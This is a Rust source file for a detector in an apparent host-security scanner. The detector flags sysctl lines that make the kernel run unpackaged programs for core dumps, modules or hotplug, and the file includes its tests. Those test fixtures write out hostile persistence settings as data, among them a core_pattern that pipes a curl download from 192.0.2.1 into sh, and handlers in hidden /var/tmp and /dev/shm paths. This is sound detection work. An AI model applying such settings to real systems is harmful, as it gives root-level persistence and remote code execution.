//! A setting has the kernel start a program of nobody's at every boot.
//!
//! # What it sees
//! A line of sysctl.d(5) or /etc/sysctl.conf that is not as a package brought it and names a program which the kernel
//! starts by itself: for core dumps (`kernel.core_pattern=|...`), for modules (`kernel.modprobe`), for devices
//! (`kernel.hotplug`), to power off. That program belongs to no package, or lies in a volatile or hidden place. A
//! handler of core dumps that is not there is `unusual`.
//!
//! # Why it matters
//! It runs as root, outside of every container, whenever anybody makes a program crash or asks for a module.
//!
//! # Innocent causes
//! systemd-coredump, apport and abrt are packaged and quiet. Handlers of core dumps in /usr/local and /opt are
//! `unusual`.
//!
//! # What to do
//! Look at the program and at what is in force: `sysctl kernel.core_pattern kernel.modprobe`.

use super::{entry, risk};
use crate::{Detector, Scene};
use keeneye_facts::{Autostart, AutostartKind, Finding, Level};

/// See the head of this file.
pub static DETECTOR: Detector = Detector {
    name: "persistence/kernel-setting",
    title: "a setting has the kernel start a program of nobody's",
    level: Level::Suspicious,
    attack: &["T1546", "T1611"],
    absolute: false,
    source: include_str!("kernel_setting.rs"),
    run,
};

fn run(scene: &Scene<'_>) -> Vec<Finding> {
    entry::foreign(scene.world, AutostartKind::Sysctl).filter_map(|one| judge(scene, one)).collect()
}

fn judge(scene: &Scene<'_>, one: &Autostart) -> Option<Finding> {
    let world = scene.world;
    let signs = risk::of_entry(world, one);
    let damning = entry::level(world.owner(&one.path), &signs, None);
    let there = one.programs.iter().any(|path| world.file(path).is_some_and(|file| file.stat.is_some()));
    let missing = (!there && one.name == "kernel.core_pattern").then_some(Level::Unusual);
    let level = damning.max(entry::of_programs(world, one)).max(missing)?;
    let seen = format!("has the kernel start {} ({})", one.command.lossy(), one.name.lossy());
    let finding = entry::finding(&DETECTOR, scene, one, level, (&seen, &signs));
    Some(finding.innocent("a handler of core dumps that an admin wrote", false, "ask who set it"))
}

#[cfg(test)]
mod tests {
    use crate::testing::findings;
    const NAME: &str = "persistence/kernel-setting";

    fn said(path: &str, line: &str) -> Vec<String> {
        let host = format!(
            "package systemd 1 owns /usr/lib/systemd/systemd-coredump,/usr/sbin/modprobe,/usr/lib/sysctl.d/50-owned.conf\n\
             /usr/bin/x : mode=100755\n/usr/local/bin/save : mode=100755\n{path} = # x\\n{line}\\n"
        );
        findings(NAME, &host, &[])
    }

    #[test]
    fn programs_of_nobody() {
        let text = "suspicious: /etc/sysctl.conf line 2 has the kernel start /usr/bin/x %p (kernel.core_pattern)";
        assert_eq!(said("/etc/sysctl.conf", "kernel.core_pattern=|/usr/bin/x %p"), [text]);
        for path in ["/etc/sysctl.d/9.conf", "/usr/lib/sysctl.d/9.conf", "/run/sysctl.d/9.conf"] {
            for line in [
                "kernel.core_pattern = |/var/tmp/.a/c %P",
                "-kernel/modprobe=/dev/shm/.a",
                "kernel.core_pattern=|/usr/lib/.a %p",
                "kernel.hotplug = /usr/bin/x",
                "kernel.core_pattern = |/bin/sh -c 'curl http://192.0.2.1/x | sh'",
            ] {
                let said = said(path, line);
                assert!(said.len() == 1 && said[0].starts_with("suspicious: "), "{path} {line}: {said:?}");
            }
        }
    }
    #[test]
    fn handlers_of_admins_are_unusual() {
        for line in ["kernel.core_pattern = |/usr/local/bin/save %e", "kernel.core_pattern = |/usr/lib/gone %e"] {
            let said = said("/etc/sysctl.d/9.conf", line);
            assert!(said.len() == 1 && said[0].starts_with("unusual: "), "{line}: {said:?}");
        }
    }
    #[test]
    fn what_packages_bring_is_quiet() {
        for line in [
            "kernel.core_pattern = |/usr/lib/systemd/systemd-coredump %P %u",
            "kernel.core_pattern = /var/crash/core.%e.%p",
            "kernel.modprobe = /usr/sbin/modprobe",
            "kernel.modprobe = /nonexistent",
            "#kernel.core_pattern = |/var/tmp/.a/c",
        ] {
            assert_eq!(said("/etc/sysctl.d/9.conf", line), [""; 0], "{line}");
        }
        assert_eq!(said("/usr/lib/sysctl.d/50-owned.conf", "kernel.hotplug = /var/tmp/.a"), [""; 0]);
    }
}
